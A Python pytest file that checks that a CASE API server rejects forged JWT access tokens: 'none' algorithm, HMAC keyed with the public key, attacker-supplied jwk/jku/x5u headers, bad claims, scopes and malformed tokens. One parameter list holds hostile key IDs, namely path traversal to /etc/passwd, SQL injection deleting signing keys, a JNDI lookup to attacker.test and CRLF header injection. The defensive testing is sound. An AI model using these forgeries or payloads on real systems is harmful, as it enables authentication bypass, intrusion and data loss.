"""Forged access tokens are rejected with 401, and URLs in them are not fetched."""

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Awaitable, Callable, Iterator
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from httpx import AsyncClient
from support import factories
from support.external_issuer import ExternalIssuer
from support.scripted_source import ScriptedResponse, ScriptedSource, run_scripted_source
from support.signing import FIRST_KEY, Sign, get_rsa_signer, sign_jwt

from case_server.auth.tokens import decode_unverified, get_public_jwk

PATH = "/case/1.1/CFDocuments"
SCOPE = "https://purl.imsglobal.org/spec/case/v1p0/scope/case."
ATTACKER = FIRST_KEY
SKEW = 60

Token = Callable[..., Awaitable[str]]


attacker = get_rsa_signer(ATTACKER)


def forged(header: dict[str, Any], claims: dict[str, Any], sign: Sign = attacker) -> str:
    return sign_jwt(header, claims, sign)


def unsigned(_: bytes) -> bytes:
    return b""


@pytest.fixture
def attacker_server() -> Iterator[ScriptedSource]:
    """A server that publishes the attacker's key."""
    with run_scripted_source() as source:
        source.responses["/jwks.json"] = ScriptedResponse({"keys": [get_public_jwk(ATTACKER)]})
        yield source


async def rejection_message(http: AsyncClient, token: str) -> str:
    """Check that reads and writes with a token return 401, and return the message."""
    headers = {"Authorization": f"Bearer {token}"}
    body = factories.document()
    for method, path in (("GET", PATH), ("PUT", f"{PATH}/{body['identifier']}")):
        response = await http.request(method, path, headers=headers, json=body)
        assert response.status_code == 401, response.text
        assert response.headers["WWW-Authenticate"].startswith("Bearer")
        assert token not in response.text
    return str(response.json()["imsx_description"])


async def status(http: AsyncClient, token: str, method: str = "GET", path: str = PATH) -> int:
    headers = {"Authorization": f"Bearer {token}"}
    return (await http.request(method, path, headers=headers)).status_code


async def parts(token: Token) -> tuple[dict[str, Any], dict[str, Any]]:
    """Return the header and the claims of a token that this server issued."""
    return decode_unverified(await token())


async def test_unchanged_tokens_are_accepted(
    anonymous: AsyncClient, token: Token, external_issuer: ExternalIssuer
) -> None:
    assert await status(anonymous, await token()) == 200
    assert await status(anonymous, external_issuer.create_token()) == 200


@pytest.mark.parametrize("algorithm", ["none", "None", "nOnE", "NONE", "", None, 7, ["RS256"]])
async def test_token_with_algorithm_none_is_rejected(
    anonymous: AsyncClient, token: Token, algorithm: object
) -> None:
    header, claims = await parts(token)
    for sign in (unsigned, attacker):
        assert await rejection_message(
            anonymous, forged({**header, "alg": algorithm}, claims, sign)
        )
    valid = await token()
    assert await rejection_message(anonymous, valid.rpartition(".")[0] + ".")


@pytest.mark.parametrize("bits", [256, 384, 512])
async def test_hmac_with_public_key_fails(anonymous: AsyncClient, token: Token, bits: int) -> None:
    header, claims = await parts(token)
    (jwk, *_) = (await anonymous.get("/.well-known/jwks.json")).json()["keys"]
    numbers = rsa.RSAPublicNumbers(
        *(int.from_bytes(base64.urlsafe_b64decode(jwk[name] + "==")) for name in ("e", "n"))
    )
    key = numbers.public_key()
    pem, der = serialization.Encoding.PEM, serialization.Encoding.DER
    spki, pkcs1 = serialization.PublicFormat.SubjectPublicKeyInfo, serialization.PublicFormat.PKCS1
    secrets = [
        *(key.public_bytes(encoding, form) for encoding in (pem, der) for form in (spki, pkcs1)),
        key.public_bytes(pem, spki).strip(),
        json.dumps(jwk).encode(),
        jwk["n"].encode(),
        b"",
    ]
    for secret in secrets:

        def by(text: bytes, secret: bytes = secret) -> bytes:
            return hmac.digest(secret, text, getattr(hashlib, f"sha{bits}"))

        text = forged({**header, "alg": f"HS{bits}"}, claims, by)
        assert "algorithm" in await rejection_message(anonymous, text)


@pytest.mark.parametrize("algorithm", ["RS384", "RS512", "PS256", "ES256", "EdDSA", "RSA1_5"])
async def test_token_with_another_algorithm_is_rejected(
    anonymous: AsyncClient, token: Token, algorithm: str
) -> None:
    header, claims = await parts(token)
    assert await rejection_message(anonymous, forged({**header, "alg": algorithm}, claims))


async def test_keys_and_key_urls_in_the_header_are_ignored(
    anonymous: AsyncClient,
    token: Token,
    external_issuer: ExternalIssuer,
    attacker_server: ScriptedSource,
) -> None:
    header, claims = await parts(token)
    url = f"{attacker_server.url}/jwks.json"
    own = {"jwk": get_public_jwk(ATTACKER), "jku": url, "x5u": url, "x5c": ["MIIB"]}
    for kid in (header["kid"], ATTACKER.kid, url):
        for name, value in own.items():
            text = forged({**header, "kid": kid, name: value}, claims)
            assert await rejection_message(anonymous, text)
        assert await rejection_message(anonymous, forged({**header, "kid": kid, **own}, claims))
    text = external_issuer.create_forged_token(get_rsa_signer(external_issuer.key), own)
    assert await status(anonymous, text) == 200
    for issuer in (url, attacker_server.url):
        assert await rejection_message(anonymous, forged(header, {**claims, "iss": issuer}))
    assert attacker_server.requests == []


@pytest.mark.parametrize(
    "kid",
    [
        *("../../../../../../dev/null", "/proc/self/environ", "file:///etc/passwd"),
        *("' OR '1'='1' --", "x'; DELETE FROM signing_keys; --", "x' UNION SELECT 'x"),
        *("${jndi:ldap://attacker.test}", "x" * 4000, "\x00", "key\r\nX-Injected: yes"),
        *("", None, 7, ["x"], {"x": 1}),
    ],
)
async def test_unknown_key_id_is_refused(anonymous: AsyncClient, token: Token, kid: object) -> None:
    header, claims = await parts(token)
    empty = hmac.digest(b"", b"x", "sha256")
    for sign in (attacker, unsigned, lambda _: empty):
        assert await rejection_message(anonymous, forged({**header, "kid": kid}, claims, sign))
    assert await status(anonymous, await token()) == 200


@pytest.mark.parametrize(
    ("claim", "offset", "too_far", "message"),
    [
        ("exp", -SKEW + 10, -SKEW - 10, "it has expired"),
        ("nbf", SKEW - 10, SKEW + 10, "it is not valid yet"),
        ("iat", SKEW - 10, SKEW + 10, "issued in the future"),
    ],
)
async def test_clock_skew_of_up_to_a_minute_is_accepted(
    anonymous: AsyncClient,
    external_issuer: ExternalIssuer,
    claim: str,
    offset: int,
    too_far: int,
    message: str,
) -> None:
    now = int(time.time())
    assert await status(anonymous, external_issuer.create_token(**{claim: now + offset})) == 200
    text = external_issuer.create_token(**{claim: now + too_far})
    assert message in await rejection_message(anonymous, text)


@pytest.mark.parametrize(
    "changes",
    [
        {"token_use": "id"},
        {"token_use": "refresh"},
        {"token_use": ["access"]},
        {"iss": "https://elsewhere.test"},
        {"iss": None},
        {"iss": ["x"]},
        {"exp": None},
        {"sub": None, "client_id": None, "azp": None},
    ],
    ids=str,
)
async def test_token_with_unsuitable_claims_is_rejected(
    anonymous: AsyncClient, external_issuer: ExternalIssuer, changes: dict[str, Any]
) -> None:
    assert await rejection_message(anonymous, external_issuer.create_token(**changes))


@pytest.mark.parametrize(
    ("scope", "expected"),
    [
        (f"{SCOPE}readonly", 200),
        (f"openid {SCOPE}readonly profile", 200),
        ([f"{SCOPE}readonly", "openid"], 200),
        ([7, None, ["x"], f"{SCOPE}readonly"], 200),
        (f"{SCOPE}readonly".replace("v1p0", "v1p1"), 200),
        (f"{SCOPE}readonly.extra", 403),
        (f"x{SCOPE}readonly", 403),
        (f"{SCOPE}read", 403),
        (f"{SCOPE}READONLY", 403),
        (f"{SCOPE}readonly".replace("https", "http"), 403),
        ([[f"{SCOPE}readonly"]], 403),
        ("", 403),
        (7, 403),
        (f"{SCOPE}readonly,{SCOPE}createput", 403),
        ([f"{SCOPE}readonly {SCOPE}createput"], 403),
        ("case.readonly", 403),
        ("*", 403),
        ({f"{SCOPE}readonly": True}, 403),
        (None, 403),
        (f"{SCOPE}createput {SCOPE}delete", 403),
    ],
    ids=str,
)
async def test_scopes_are_compared_exactly(
    anonymous: AsyncClient, external_issuer: ExternalIssuer, scope: object, expected: int
) -> None:
    text = external_issuer.create_token(scope=scope)
    assert await status(anonymous, text) == expected
    if expected == 200:
        assert await status(anonymous, text, "DELETE", "/case/1.1/CFItemAssociations/x") == 403


@pytest.mark.parametrize("size", [7_000, 9_000, 50_000])
async def test_token_over_the_maximum_length_is_rejected(
    anonymous: AsyncClient, external_issuer: ExternalIssuer, size: int
) -> None:
    text = external_issuer.create_token(pad="x" * (size * 3 // 4 - 800))
    if size < 8_192:
        assert await status(anonymous, text) == 200
    else:
        assert "8192" in await rejection_message(anonymous, text)


@pytest.mark.parametrize(
    "change",
    [
        lambda text: text[:-4] + ("AAAA" if text[-4:] != "AAAA" else "BBBB"),
        lambda text: text + "=",
        lambda text: text + ".x",
        lambda text: text.replace(".", "..", 1),
        lambda text: "." + text,
        lambda text: text.rpartition(".")[0],
    ],
)
async def test_malformed_token_is_rejected(
    anonymous: AsyncClient, token: Token, change: Callable[[str], str]
) -> None:
    assert await rejection_message(anonymous, change(await token()))
